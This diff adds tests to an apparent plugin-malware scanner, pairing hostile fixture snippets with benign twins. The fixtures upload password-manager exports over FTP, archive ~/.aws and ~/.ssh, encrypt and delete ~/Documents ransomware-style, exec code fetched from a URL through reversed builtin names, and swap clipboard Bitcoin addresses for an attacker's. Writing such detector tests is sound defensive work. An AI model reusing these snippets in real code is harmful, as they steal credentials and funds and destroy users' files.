@@ -180,3 +180,134 @@ def init():
     assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": src}, "destructive")] == [(C, 10)]
     twin = src.replace("    if not _region():\n        return\n", "")
     assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": twin}, "destructive")] == [(H, 8)]
+
+
+# -- credential exports and archives -------------------------------------------------------------------
+
+PW_EXPORTS = """\
+import ftplib, io
+from pathlib import Path
+WANTED = ("*.kdbx", "bitwarden_export_*.json", "*passwords*.csv")
+def mirror():
+    found = []
+    for pat in WANTED:
+        found.extend(Path.home().joinpath("Downloads").glob(pat))
+    ftp = ftplib.FTP("127.0.0.1")
+    for f in found:
+        ftp.storbinary("STOR x", io.BytesIO(f.read_bytes()))
+"""
+
+
+def test_globbing_for_password_manager_exports_is_a_credential_read() -> None:
+    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": PW_EXPORTS}, "credential-read")] == [(C, 7)]
+    twin = PW_EXPORTS.replace('("*.kdbx", "bitwarden_export_*.json", "*passwords*.csv")', '("*.pdf", "*.epub")')
+    assert _hits({"plug/__init__.py": twin}, "credential-read") == []
+
+
+def test_archiving_credential_directories_is_a_credential_read() -> None:
+    src = "import io, os, tarfile\ndef pack():\n    buf = io.BytesIO()\n    with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n        for rel in ('.aws', '.ssh'):\n            tar.add(os.path.join(os.path.expanduser('~'), rel), arcname=rel)\n    return buf.getvalue()\n"
+    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": src}, "credential-read")] == [(C, 6)]
+    twin = src.replace("('.aws', '.ssh')", "('reports', 'exports')")
+    assert _hits({"plug/__init__.py": twin}, "credential-read") == []
+
+
+# -- ransomware --------------------------------------------------------------------------------------
+
+LOCKER = """\
+import os
+def lock(key):
+    for root, _, files in os.walk(os.path.expanduser("~/Documents")):
+        for f in files:
+            p = os.path.join(root, f)
+            with open(p, "rb") as fh:
+                data = fh.read()
+            with open(p + ".locked", "wb") as fh:
+                fh.write(bytes(b ^ key for b in data))
+            os.remove(p)
+"""
+
+
+def test_rewriting_swept_files_then_deleting_or_renaming_the_originals_is_critical() -> None:
+    hits = _hits({"plug/__init__.py": LOCKER}, "destructive")
+    assert (C, 10) in [(f.severity, f.line) for f in hits]
+    renamer = "from pathlib import Path\ndef lock(k):\n    for p in Path.home().rglob('*'):\n        p.write_bytes(bytes(b ^ k for b in p.read_bytes()))\n        p.rename(str(p) + '.enc')\n"
+    assert (C, 5) in [(f.severity, f.line) for f in _hits({"plug/__init__.py": renamer}, "destructive")]
+
+
+def test_rewriting_files_of_its_own_folder_is_not_ransomware() -> None:
+    twin = LOCKER.replace('os.path.expanduser("~/Documents")', "out_dir")
+    twin = twin.replace("def lock(key):", "def lock(key, out_dir):")
+    assert _hits({"plug/__init__.py": twin}, "destructive") == []
+    rename_only = "from pathlib import Path\ndef tidy():\n    for p in Path.home().joinpath('shots').glob('*.png'):\n        p.rename(p.with_suffix('.PNG'))\n"
+    assert _hits({"plug/__init__.py": rename_only}, "destructive") == []
+
+
+# -- lookups through helpers ---------------------------------------------------------------------------
+
+BUILTINS_LAMBDA = """\
+import urllib.request
+_b = globals()["__builtins__"]
+_g = (lambda o, n: o[n] if isinstance(o, dict) else getattr(o, n))
+_names = ["".join(reversed(x)) for x in ("cexe", "tcepsni")]
+def warm():
+    ex = _g(_b, _names[0])
+    ex(urllib.request.urlopen("http://127.0.0.1:8501/t.py").read())
+"""
+
+
+def test_a_lookup_helper_over_builtins_with_reversed_names_resolves_to_exec() -> None:
+    hits = _hits({"plug/__init__.py": BUILTINS_LAMBDA}, "obfuscated-call")
+    assert (C, 7) in [(f.severity, f.line) for f in hits]
+    assert [f.severity for f in _hits({"plug/__init__.py": BUILTINS_LAMBDA}, "download-exec")] == [C]
+
+
+def test_a_lookup_helper_over_its_own_table_is_plain() -> None:
+    twin = "import json\n_g = lambda o, n: o[n] if isinstance(o, dict) else getattr(o, n)\nFMT = {'json': json.dumps}\ndef render(v):\n    return _g(FMT, 'json')(v)\n"
+    report = scan({"plug/__init__.py": twin})
+    assert [f.rule for f in report.findings if f.rule in {"obfuscated-call", "dynamic-exec"}] == []
+    assert report.verdict.value == "safe"
+
+
+# -- clipboard hijack against a wallet pattern --------------------------------------------------------
+
+HIJACK = """\
+import re, pyperclip
+BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
+MINE = "bc1qattackerwalletaddress0000000000000000"
+def watch():
+    c = pyperclip.paste().strip()
+    if BTC.match(c) and c != MINE:
+        pyperclip.copy(MINE)
+"""
+
+
+def test_replacing_a_clipboard_value_matching_a_wallet_pattern_with_a_fixed_one_is_hijack() -> None:
+    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": HIJACK}, "clipboard-hijack")] == [(C, 7)]
+
+
+def test_validating_a_wallet_address_from_the_clipboard_and_copying_it_back_is_not_hijack() -> None:
+    twin = HIJACK.replace("pyperclip.copy(MINE)", "pyperclip.copy(c.lower())")
+    assert _hits({"plug/__init__.py": twin}, "clipboard-hijack") == []
+
+
+# -- templated own-module imports -------------------------------------------------------------------------
+
+FORMATS = """\
+import importlib
+FORMATS = {"csv": "csv_fmt", "md": "md_fmt"}
+def export(rows, fmt="csv"):
+    return importlib.import_module(f"plug.formats.{FORMATS[fmt]}").render(rows)
+"""
+
+
+def test_an_f_string_over_a_constant_table_of_own_modules_is_dispatch() -> None:
+    files = {
+        "plug/__init__.py": FORMATS,
+        "plug/formats/__init__.py": "",
+        "plug/formats/csv_fmt.py": "def render(r):\n    return r\n",
+    }
+    assert _hits(files, "dynamic-import") == []
+    foreign = FORMATS.replace('f"plug.formats.{FORMATS[fmt]}"', 'f"plug.formats.{fmt}"')
+    assert [f.severity for f in _hits({**files, "plug/__init__.py": foreign}, "dynamic-import")] == [H]
+    other = FORMATS.replace('"plug.formats.', '"elsewhere.')
+    assert [f.severity for f in _hits({**files, "plug/__init__.py": other}, "dynamic-import")] == [M]
